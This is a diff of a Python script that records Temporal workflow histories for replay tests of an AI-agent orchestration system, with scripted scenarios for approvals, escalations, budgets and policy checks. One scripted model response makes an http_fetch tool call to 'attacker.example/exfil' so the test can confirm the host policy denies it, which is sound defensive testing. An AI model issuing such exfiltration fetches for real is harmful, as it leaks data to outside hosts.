@@ -1,67 +1,294 @@
-"""Record a goal's history into tests/histories/ for the replay tests (real activities, embedded model).
+"""Record goal histories into tests/histories/ for the replay tests: one named recipe per scenario, each
+re-recordable on its own against a fresh dev server (started with settings.DEV_SERVER_FLAGS).
 
-    .venv/bin/python -m tests.record_history research-brief --playbook research-brief "Explain how durable execution makes AI agents safe to retry"
+    .venv/bin/python -m tests.record_history --list              # every recipe and its scenario
+    .venv/bin/python -m tests.record_history approval-denied     # record one (or several) by name
+    .venv/bin/python -m tests.record_history --all               # record every recipe
+    .venv/bin/python -m tests.record_history --all --out /tmp/h  # try recipes without touching tests/histories/
 
-Re-record when a workflow change is *meant* to change histories; otherwise a failing replay test
-means the change broke determinism for runs already in flight.
+Most recipes run the scripted model (`testkit.models.ScriptedModel`, under the real activity name
+`call_model`): fast and deterministic. `research-brief` and `llm-planned` run the real `call_model` on
+the embedded model. A recipe says which GoalResult status its goal must end with (failed, escalated and
+budget_exceeded are scenarios too); a run whose workflow execution did not complete, that ended with
+another status, or that does not replay is refused, and nothing is written.
+
+Re-record when a workflow change is *meant* to change histories; otherwise a failing replay test means
+the change broke determinism for runs already in flight. tests/test_replay.py checks each history against
+a row keyed by its file name that proves the scenario: a new recipe needs a row there.
 """
 
 from __future__ import annotations
 
 import argparse
 import asyncio
-import os
+import json
 import tempfile
 import uuid
+from collections.abc import Awaitable, Callable
+from dataclasses import dataclass
 from pathlib import Path
 
+import pytest
+from temporalio.api.enums.v1 import EventType
+from temporalio.client import Client, WorkflowHandle
 from temporalio.contrib.pydantic import pydantic_data_converter
 from temporalio.testing import WorkflowEnvironment
 
 import settings
-from contracts.goal import GoalRequest, GoalStatus
+from contracts.approvals import APPROVAL_SIGNAL, DENY_UPDATE, ApprovalSignal
+from contracts.goal import Budget, GoalRequest, GoalResult, GoalStatus
+from contracts.llm import ChatMessage, ModelRequest
 from devserver import find_binary
-from tests.helpers import approve_everything
-from worker import build_worker
+from tests.fakes import Responder, ScriptedModel, answer, call_tool, guided, step_role, tool_messages
+from tests.helpers import (
+    DRAFT,
+    approve_everything,
+    decide,
+    escalating_playbook,
+    gated_playbook,
+    pending,
+    replay,
+    resolve,
+    single_step_playbook,
+    waiting,
+    write_playbook,
+)
+from worker import all_activities, build_worker
 from workflows.goal import GoalWorkflow
 
 HISTORIES = Path(__file__).resolve().parent / "histories"
+GOAL_TIMEOUT_S = 120  # the embedded model plans and writes in well under a minute
+Drive = Callable[[WorkflowHandle], Awaitable[None]]
+Setup = Callable[[Path, pytest.MonkeyPatch], GoalRequest]
 
 
-async def record(name: str, goal: str, playbook: str | None) -> Path:
-    environment = await WorkflowEnvironment.start_local(
-        dev_server_existing_path=find_binary("temporal"),
-        data_converter=pydantic_data_converter,
-        dev_server_extra_args=settings.DEV_SERVER_FLAGS,
-    )
+@dataclass(frozen=True)
+class Recipe:
+    """One scenario: the goal it starts (writing any playbook it needs under a folder of its own), the
+    model (`None`: the embedded one), what the humans around it do meanwhile, and how it must end."""
+
+    scenario: str
+    setup: Setup
+    status: GoalStatus
+    respond: Responder | None = None
+    drive: Drive | None = None
+
+
+# --- what the humans do --------------------------------------------------------------------------
+
+
+async def approve_all(handle: WorkflowHandle) -> None:
+    await approve_everything(handle, ("bob", "carol"))
+
+
+async def deny(handle: WorkflowHandle) -> None:
+    (request,) = await pending(handle)
+    await decide(handle, "bob", request, update=DENY_UPDATE)
+
+
+async def approve_by_signal(handle: WorkflowHandle) -> None:
+    """A signal the workflow refuses (carol is no editor) and recorded, then alice's approval."""
+    (request,) = await pending(handle)
+    for approver in ("carol", "alice"):
+        await handle.signal(APPROVAL_SIGNAL, ApprovalSignal(
+            request_id=request.request_id, approver=approver, decision="approve", action_sha256=request.action_sha256))
+
+
+async def retry_with_guidance(handle: WorkflowHandle) -> None:
+    (escalation,) = await waiting(handle)
+    await resolve(handle, escalation, "bob", "retry", guidance="Say that durable execution keeps every step.")
+
+
+# --- goals and models ----------------------------------------------------------------------------
+
+
+def gated(**rule: object) -> Setup:
+    """A drafter step, then a publish of its output bound to the draft's hash, gated by `rule`."""
+
+    def setup(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
+        name = gated_playbook(folder, monkeypatch, content="{{steps.a.output}}", expected_sha256="{{steps.a.sha256}}", **rule)
+        return GoalRequest(goal="Publish a short note on durable execution", playbook=name)
+
+    return setup
+
+
+def one_step(goal: str, budget: Budget | None = None, **step: object) -> Setup:
+    def setup(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
+        name = single_step_playbook(folder, monkeypatch, **step)
+        return GoalRequest(goal=goal, playbook=name, **({"budget": budget} if budget else {}))
+
+    return setup
+
+
+def fan_in(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
+    """Two independent steps, then one that joins their outputs; two steps may run at once."""
+    monkeypatch.setenv("FOREMAN_PLAYBOOKS_DIR", str(folder / "playbooks"))
+    steps = [
+        {"type": "agent", "id": "left", "role": "researcher", "instruction": "L"},
+        {"type": "agent", "id": "right", "role": "analyst", "instruction": "R"},
+        {"type": "agent", "id": "join", "role": "drafter", "instruction": "J", "depends_on": ["left", "right"]},
+    ]
+    name = write_playbook(folder / "playbooks", {"name": "fan-in", "steps": steps})
+    return GoalRequest(goal="Two views, one brief", playbook=name, max_parallel_steps=2)
+
+
+def builtin(goal: str, playbook: str | None = None) -> Setup:
+    return lambda folder, monkeypatch: GoalRequest(goal=goal, playbook=playbook)
+
+
+def escalating(folder: Path, monkeypatch: pytest.MonkeyPatch) -> GoalRequest:
+    return GoalRequest(goal="Explain durable execution", playbook=escalating_playbook(folder, monkeypatch))
+
+
+def draft_reply(request: ModelRequest) -> ChatMessage:
+    return answer(DRAFT)
+
+
+def role_done(request: ModelRequest) -> ChatMessage:
+    return answer(f"{step_role(request)} done")
+
+
+def blue_after_feedback(request: ModelRequest) -> ChatMessage:
+    feedback = [m.content for m in request.messages if "not accepted" in m.content]
+    return answer("The sky is blue." if feedback else "The sky has a colour.")
+
+
+def exfiltrate_then_report(request: ModelRequest) -> ChatMessage:
+    results = tool_messages(request)
+    return answer(f"saw: {results[-1].content}") if results else call_tool("http_fetch", {"url": "https://attacker.example/exfil"})
+
+
+RECIPES: dict[str, Recipe] = {
+    "research-brief": Recipe(
+        "embedded model: the research-brief playbook, its gated publish approved by Update",
+        builtin("Explain how durable execution makes AI agents safe to retry", "research-brief"),
+        GoalStatus.COMPLETED, drive=approve_all,
+    ),
+    "llm-planned": Recipe(
+        "embedded model: a goal planned by the LLM planner",
+        builtin("List two reasons to make tool calls idempotent"), GoalStatus.COMPLETED, drive=approve_all,
+    ),
+    "approval-denied": Recipe(
+        "a gated publish denied by the `deny` Update: the write never runs, the goal fails",
+        gated(), GoalStatus.FAILED, draft_reply, deny,
+    ),
+    "approval-expired": Recipe(
+        "a gated publish nobody decides: it expires after 1 s into a denial (a timer fires), the goal fails",
+        gated(expires_after_seconds=1), GoalStatus.FAILED, draft_reply,
+    ),
+    "approval-signal": Recipe(
+        "a gated publish decided by the `approval_signal` Signal: one refused (wrong role), then approved",
+        gated(), GoalStatus.COMPLETED, draft_reply, approve_by_signal,
+    ),
+    "escalation-expired": Recipe(
+        "a gated publish expires into an escalation nobody resolves, which times out into abort (two timers)",
+        gated(expires_after_seconds=1, on_expiry="escalate", escalations={"timeout_seconds": 1}),
+        GoalStatus.ESCALATED, draft_reply,
+    ),
+    "escalation-retry": Recipe(
+        "the verifier escalates a weak draft; a human's `resolve` Update retries it with guidance, then accepted",
+        escalating, GoalStatus.COMPLETED, guided, retry_with_guidance,
+    ),
+    "budget-stop": Recipe(
+        "a model that calls tools forever stops at max_model_calls=3: budget_exceeded",
+        one_step("loop forever", Budget(max_model_calls=3), max_turns=10),
+        GoalStatus.BUDGET_EXCEEDED, lambda request: call_tool("calculate", {"expression": "1+1"}),
+    ),
+    "parallel-steps": Recipe(
+        "two independent steps run concurrently (max_parallel_steps=2), then a step joins them",
+        fan_in, GoalStatus.COMPLETED, role_done,
+    ),
+    "refine": Recipe(
+        "the verifier rejects the first answer (required term missing), the second attempt is accepted",
+        one_step("sky colour", tools=[], max_attempts=3, checks=[{"type": "required_terms", "terms": ["blue"]}]),
+        GoalStatus.COMPLETED, blue_after_feedback,
+    ),
+    "policy-denied": Recipe(
+        "a researcher's http_fetch to a host its policy does not allow: denied, nothing scheduled, the model told",
+        one_step("fetch it", role="researcher", tools=["http_fetch"]), GoalStatus.COMPLETED, exfiltrate_then_report,
+    ),
+}
+
+
+# --- recording -----------------------------------------------------------------------------------
+
+
+async def outcome(handle: WorkflowHandle, drive: Drive | None) -> GoalResult:
+    """The goal's result, while `drive` plays the humans; a driver that fails fails the recording."""
+    result = asyncio.create_task(handle.result())
+    driver = asyncio.create_task(drive(handle)) if drive else None
     try:
-        task_queue = f"record-{uuid.uuid4().hex[:8]}"
-        async with build_worker(environment.client, task_queue):
-            handle = await environment.client.start_workflow(
-                GoalWorkflow.run, GoalRequest(goal=goal, playbook=playbook), id=f"recorded-{name}", task_queue=task_queue
-            )
-            approver = asyncio.create_task(approve_everything(handle, ("bob", "carol")))  # gated actions, approved
-            result = await handle.result()
-            approver.cancel()
-        if result.status is not GoalStatus.COMPLETED:
-            raise SystemExit(f"the goal ended {result.status.value}: {result.error}")
-        history = await handle.fetch_history()
+        async with asyncio.timeout(GOAL_TIMEOUT_S):
+            await asyncio.wait([t for t in (result, driver) if t], return_when=asyncio.FIRST_COMPLETED)
+            if driver and driver.done() and driver.exception():
+                raise driver.exception()
+            return await result
     finally:
-        await environment.shutdown()
-    HISTORIES.mkdir(exist_ok=True)
-    path = HISTORIES / f"{name}.json"
+        tasks = [t for t in (result, driver) if t]
+        for task in tasks:
+            task.cancel()
+        await asyncio.gather(*tasks, return_exceptions=True)  # e.g. an Update's reply cut off by the cancel
+
+
+async def record(client: Client, name: str, folder: Path, out: Path) -> Path:
+    recipe = RECIPES[name]
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        monkeypatch.setenv("FOREMAN_HOME", str(folder / "home"))  # its own workspace, content store, corpus index
+        for variable in ("FOREMAN_WORKSPACE", "FOREMAN_CONTENT_STORE", "FOREMAN_CORPUS_INDEX"):
+            monkeypatch.delenv(variable, raising=False)
+        request = recipe.setup(folder, monkeypatch)
+        activities = all_activities(ScriptedModel(recipe.respond).activity()) if recipe.respond else None
+        task_queue = f"record-{uuid.uuid4().hex[:8]}"
+        async with build_worker(client, task_queue, activities=activities):
+            handle = await client.start_workflow(GoalWorkflow.run, request, id=f"recorded-{name}", task_queue=task_queue)
+            result = await outcome(handle, recipe.drive)
+        history = await handle.fetch_history()
+    if history.events[-1].event_type != EventType.EVENT_TYPE_WORKFLOW_EXECUTION_COMPLETED:
+        raise SystemExit(f"{name}: the workflow did not complete: {EventType.Name(history.events[-1].event_type)}")
+    if result.status is not recipe.status:
+        raise SystemExit(f"{name}: the goal ended {result.status.value}, not {recipe.status.value}: {result.error}")
+    await replay(history)
+    out.mkdir(parents=True, exist_ok=True)
+    path = out / f"{name}.json"
     path.write_text(history.to_json())
     return path
 
 
+async def record_all(names: list[str], out: Path) -> None:
+    environment = await WorkflowEnvironment.start_local(
+        dev_server_existing_path=find_binary("temporal"),
+        data_converter=pydantic_data_converter,
+        dev_server_extra_args=settings.DEV_SERVER_FLAGS,
+        dev_server_log_level="error",
+        ui=False,
+    )
+    try:
+        with tempfile.TemporaryDirectory(prefix="foreman-record-") as tmp:
+            for name in names:
+                path = await record(environment.client, name, Path(tmp) / name, out)
+                events = len(json.loads(path.read_text())["events"])
+                print(f"{path}  {path.stat().st_size / 1024:.1f} KB  {events} events", flush=True)
+    finally:
+        await environment.shutdown()
+
+
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    parser.add_argument("name")
-    parser.add_argument("goal")
-    parser.add_argument("--playbook")
+    parser.add_argument("names", nargs="*", metavar="NAME", help="recipes to record (see --list)")
+    parser.add_argument("--list", action="store_true", help="list the recipes and exit")
+    parser.add_argument("--all", action="store_true", help="record every recipe")
+    parser.add_argument("--out", type=Path, default=HISTORIES, help=f"where to write NAME.json (default {HISTORIES})")
     args = parser.parse_args()
-    os.environ.setdefault("FOREMAN_HOME", tempfile.mkdtemp(prefix="foreman-record-"))
-    print(asyncio.run(record(args.name, args.goal, args.playbook)))
+    if args.list:
+        width = max(map(len, RECIPES))
+        for name, recipe in RECIPES.items():
+            model = "embedded" if recipe.respond is None else "scripted"
+            print(f"{name:<{width}}  {model:<8}  {recipe.status.value:<15}  {recipe.scenario}")
+        return
+    unknown = [n for n in args.names if n not in RECIPES]
+    if unknown or not (args.names or args.all):
+        parser.error(f"unknown recipe {unknown[0]!r} (see --list)" if unknown else "name a recipe, or --all, or --list")
+    asyncio.run(record_all(list(RECIPES) if args.all else args.names, args.out))
 
 
 if __name__ == "__main__":
